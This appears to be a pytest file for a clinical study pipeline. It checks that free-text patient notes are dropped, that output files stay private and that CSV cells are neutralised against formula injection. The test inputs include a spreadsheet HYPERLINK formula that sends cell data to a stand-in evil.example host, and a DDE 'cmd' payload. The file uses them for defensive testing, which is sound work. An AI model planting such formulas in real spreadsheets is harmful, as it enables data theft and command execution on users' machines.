"""No free text in processed data, private files private, spreadsheet-safe CSVs (#13.6-7)."""

from __future__ import annotations

import os
import re
import stat

import pandas as pd
import pytest
from factories import PATIENTS, SESSIONS, write_config, write_study

from pipeline import outputs
from pipeline.config.settings import load_config
from pipeline.processed import validate_inputs
from pipeline.schemas.raw import free_text_columns

NOTE = "Jane Roe MRN 0012345 jane.roe@example.org +44 20 7946 0958 born 1961-03-02"
# a session with a note in its free-text column, and a patient whose age cell is a formula
SESSIONS_WITH_NOTES = SESSIONS.replace("ae_severity\n", "ae_severity,co_intervention\n", 1).replace(
    "soreness,mild\n", f'soreness,mild,"{NOTE}"\n', 1
)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
QUOTED = FORMULA.replace('"', '""')
PATIENTS_WITH_FORMULA = PATIENTS + f'P9,@SUM(1+1),2025-01-06,"{QUOTED}",female,3,no,no\n'


def study(tmp_path, privacy: str = "demo_key = true"):
    inputs = write_study(
        tmp_path / "raw", sessions=SESSIONS_WITH_NOTES, patients=PATIENTS_WITH_FORMULA
    )
    return load_config(write_config(tmp_path, inputs, privacy=privacy))


def mode(path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_free_text_columns_are_declared_in_the_schema():
    assert free_text_columns()["sessions"] == ("co_intervention",)


def test_free_text_is_dropped_from_processed_data_unless_kept(tmp_path):
    config = study(tmp_path / "dropped")
    validate_inputs(config)
    sessions = pd.read_parquet(config.outputs.processed / "sessions.parquet")
    assert "co_intervention" not in sessions
    for path in config.outputs.processed.glob("*.parquet"):
        assert b"jane.roe" not in path.read_bytes() and b"0012345" not in path.read_bytes()

    kept = study(tmp_path / "kept", 'demo_key = true\nkeep_free_text = ["co_intervention"]')
    validate_inputs(kept)
    sessions = pd.read_parquet(kept.outputs.processed / "sessions.parquet")
    assert NOTE in set(sessions["co_intervention"].dropna())


@pytest.mark.parametrize("umask", [0o022, 0o077, 0o027])
def test_processed_and_quarantine_files_are_private(tmp_path, umask):
    config = study(tmp_path)
    old = os.umask(umask)
    try:
        _, _, written = validate_inputs(config)
        public = outputs.write_text(tmp_path / "public.txt", "x")
    finally:
        os.umask(old)
    assert written and all(mode(path) == 0o600 & ~umask for path in written)
    quarantine = config.outputs.quarantine / "patients.csv"
    assert quarantine in written and mode(quarantine) == 0o600
    assert mode(public) == 0o644 & ~umask  # the stricter of 0644 and the umask


def test_formulas_in_the_quarantine_are_neutralised(tmp_path):
    config = study(tmp_path)
    validate_inputs(config)
    text = (config.outputs.quarantine / "patients.csv").read_text()
    quarantined = pd.read_csv(config.outputs.quarantine / "patients.csv", dtype=str)
    row = quarantined.loc[quarantined["patient_id"] == "P9"].iloc[0]
    assert row["age"] == "'" + FORMULA and row["site"] == "'@SUM(1+1)"
    assert ',"=HYPERLINK' not in text and ",@SUM" not in text


def test_published_tables_neutralise_text_and_leave_numbers_alone(tmp_path):
    frame = pd.DataFrame(
        {
            "label": ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "ok", "-3.5"],
            "estimate": [-1.5, 2.0, -3.0, 4.0, 5.0, 7.0, -8.25],
            "count": pd.array([-1, 2, 3, 4, 5, 7, 8], dtype="Int64"),
        }
    )
    outputs.write_csv(tmp_path / "t.csv", frame)
    back = pd.read_csv(tmp_path / "t.csv", dtype={"label": str}, keep_default_na=False)
    assert back["label"].tolist() == [
        "'=1+1",
        "'+cmd|' /C calc'!A0",
        "'-2+3",
        "'@SUM(A1)",
        "'\tx",
        "ok",
        "-3.5",  # a plain number written as text runs nothing
    ]
    assert back["estimate"].tolist() == frame["estimate"].tolist()
    assert back["count"].tolist() == [-1, 2, 3, 4, 5, 7, 8]
    # a carriage return first (the CSV reader would split the row there, so checked before)
    cell = outputs.neutralise(pd.DataFrame({"label": ["\rcmd"]}))["label"].iloc[0]
    assert cell == "'\rcmd"


@pytest.mark.parametrize(
    ("section", "body", "message"),
    [
        ("privacy", 'demo_key = true\nkeep_free_text = ["notes"]', "[privacy.keep_free_text]"),
        ("engine", "workers = -1", "[engine.workers] must be between 0 and 512"),
        ("engine", "threads = 2", "[engine] unknown key 'threads'"),
    ],
)
def test_privacy_and_engine_settings_are_checked(tmp_path, section, body, message):
    from pipeline.errors import ConfigError

    inputs = write_study(tmp_path / "raw")
    with pytest.raises(ConfigError, match=re.escape(message)):
        load_config(write_config(tmp_path, inputs, **{section: body}))


def test_engine_workers_reach_the_run(tmp_path):
    inputs = write_study(tmp_path / "raw")
    config = load_config(write_config(tmp_path, inputs, engine="workers = 1"))
    assert config.engine.workers == 1 and config.engine.cache_key_file is None


def test_temporary_files_a_killed_run_left_are_removed_by_the_next(tmp_path):
    config = study(tmp_path)
    quarantine = config.outputs.quarantine
    quarantine.mkdir(parents=True)
    left = quarantine / ".patients.csv.a1b2c3d4.tmp"  # the writers' own pattern
    left.write_text("patient_id\nP1\n")
    mine = quarantine / ".my-notes.tmp"  # not the writers' pattern: not theirs to delete
    mine.write_text("mine")
    validate_inputs(config)
    assert not left.exists() and mine.read_text() == "mine"
